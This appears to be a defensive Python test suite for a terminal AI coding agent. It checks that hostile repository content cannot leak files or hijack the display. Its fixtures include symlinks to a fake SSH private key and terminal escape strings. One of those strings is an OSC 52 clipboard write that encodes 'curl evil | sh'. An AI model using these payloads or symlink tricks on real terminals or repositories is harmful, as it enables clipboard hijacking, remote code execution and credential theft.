"""A hostile repository against the project's own context (P1-P3 under H1, H4, H6).

The user's files are trusted as instructions, never as terminal bytes or markup; no link in
the repository carries a file from outside it to the provider; no FIFO or huge file hangs a
read or fills the memory.
"""

from __future__ import annotations

import os
import time

from ui.tui_helpers import reply, run_turn
from waits import wait_until

from agent.attachments import expand
from agent.custom_commands import load_commands
from agent.instructions import MAX_FILE_CHARS, Instructions
from hermes_tui.widgets.markers import Marker
from hermes_tui.widgets.messages import UserMessage

ESCAPES = "\x1b]0;pwned\x07 \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\ \x1b[2J \x9b2J \r"
MARKUP = "[bold red]x[/] [@click=app.quit]quit[/]"
SIZE = (120, 36)


def controls(text: str) -> list[str]:
    return [repr(c) for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F]


def drawn(app) -> str:
    return "\n".join(strip.text for strip in app.screen._compositor.render_strips())


def test_a_link_named_agents_md_never_carries_an_outside_file(tmp_path):
    secret = tmp_path / "home" / ".ssh" / "id_rsa"
    secret.parent.mkdir(parents=True)
    secret.write_text("-----BEGIN PRIVATE KEY----- not for the provider\n")
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    os.symlink(secret, repo / "AGENTS.md")
    (repo / "sub").mkdir()
    os.symlink(secret, repo / "sub" / "CLAUDE.md")
    instructions = Instructions(repo, None)
    found = instructions.refresh()
    instructions.touch("sub/x.py")
    assert "PRIVATE KEY" not in instructions.prompt_section()
    assert found.notices == ("Skipped AGENTS.md: it is a link to a file outside the repository.",)
    assert instructions.files == ()


def test_a_link_inside_the_repository_is_followed(tmp_path):
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / "docs").mkdir()
    (repo / "docs" / "agents.md").write_text("LINKED RULES\n")
    os.symlink("docs/agents.md", repo / "AGENTS.md")
    instructions = Instructions(repo, None)
    instructions.refresh()
    assert "LINKED RULES" in instructions.prompt_section()


def test_a_huge_sparse_instruction_or_mentioned_file_is_read_only_up_to_its_cap(tmp_path):
    repo = tmp_path / "repo"
    repo.mkdir()
    for name in ("AGENTS.md", "huge.log"):
        with open(repo / name, "wb") as handle:
            handle.write(b"x" * 100 + b"\n")
            handle.truncate(4 * 1024**3)  # 4 GiB of holes: reading it whole would not end
    started = time.monotonic()
    instructions = Instructions(repo, None)
    found = instructions.refresh()
    expansion = expand("@huge.log", repo)
    assert time.monotonic() - started < 10
    assert len(instructions.files) == 0 or len(instructions.files[0].text) <= MAX_FILE_CHARS
    assert any("AGENTS.md" in notice for notice in found.notices)
    [attached] = expansion.attachments
    assert attached.get("refused") == "binary file" or attached["truncated"]


def test_a_fifo_mention_is_refused_without_hanging(tmp_path):
    os.mkfifo(tmp_path / "pipe")
    started = time.monotonic()
    expansion = expand("@pipe", tmp_path)
    assert time.monotonic() - started < 5
    assert expansion.attachments == (
        {"path": "pipe", "kind": "file", "refused": "not a regular file"},
    )


def test_a_command_file_that_is_a_link_is_skipped(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP SECRET\n")
    commands = tmp_path / "ws" / ".hermes-tui" / "commands"
    commands.mkdir(parents=True)
    os.symlink(secret, commands / "leak.md")
    loaded = load_commands(tmp_path / "ws", None)
    assert loaded.commands == ()
    [sentence] = loaded.skipped
    assert "leak.md" in sentence and "cannot be read" in sentence


async def test_hostile_names_and_texts_are_shown_never_obeyed(make_app, scripted, workspace):
    evil_dir = workspace / f"evil{ESCAPES.replace('/', '_')}"
    evil_dir.mkdir()
    (evil_dir / "AGENTS.md").write_text(f"Rules {ESCAPES} {MARKUP}\n")
    evil_file = workspace / f"name {MARKUP.replace('/', '_')}.py"
    evil_file.write_text("x = 1\n")
    (workspace / "AGENTS.md").write_text(f"Top rules {ESCAPES} {MARKUP}\n")
    commands = workspace / ".hermes-tui" / "commands"
    commands.mkdir(parents=True)
    (commands / "evil.md").write_text(f"---\ndescription: 'Bad {MARKUP} \\e]0;x\\a'\n---\nGo.\n")
    rel = evil_dir.name + "/AGENTS.md"
    read = {"id": "r1", "name": "read_file", "arguments": {"path": rel}}
    server = scripted({"replies": [reply("Reading.", tool_calls=[read]), reply("Done.")]})
    app = make_app(server)
    async with app.run_test(size=SIZE) as pilot:
        await run_turn(pilot, f'look at @"{evil_file.name}"')
        [message] = app.transcript.query(UserMessage)
        assert message.attachments and message.attachments[0]["path"] == evil_file.name
        [marker] = app.transcript.query(Marker)
        assert "␛" in marker.text and not controls(marker.text)
        assert "Top rules" in server.requests[0].body["messages"][0]["content"]
        await app.run_command("/context")
        await pilot.pause()
        await pilot.press(*"@name")
        await wait_until(pilot, lambda: app.completion.paths, what="the picker's paths")
        await pilot.pause()
        screen = drawn(app)
        assert not controls(screen)
        assert "name [bold red]x[_]" in screen  # markup shown as typed, never interpreted
        app.composer.load_text("/ev")
        await pilot.pause()
        assert not controls(drawn(app))
        await app.run_command("/help")
        await pilot.pause()
        assert not controls(drawn(app))
